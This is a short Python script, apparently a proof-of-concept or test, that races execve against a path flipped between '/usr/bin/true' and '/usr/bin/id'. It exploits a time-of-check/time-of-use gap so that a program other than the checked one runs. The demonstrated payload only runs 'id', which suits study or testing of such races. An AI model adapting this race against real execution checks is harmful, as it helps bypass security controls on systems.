"""The path changes between the check of a program and its start."""

import ctypes

from attack import Shared, race, spoken, syscall, tries

path = Shared(b"/usr/bin/true", b"/usr/bin/id")
arguments = (ctypes.c_char_p * 2)(b"x", None)


def strike() -> bool:
    """Become whatever program stands there now."""
    return b"uid=" in spoken(lambda: syscall("execve", path.address, arguments, None))


with tries():
    race(path.flip, strike)
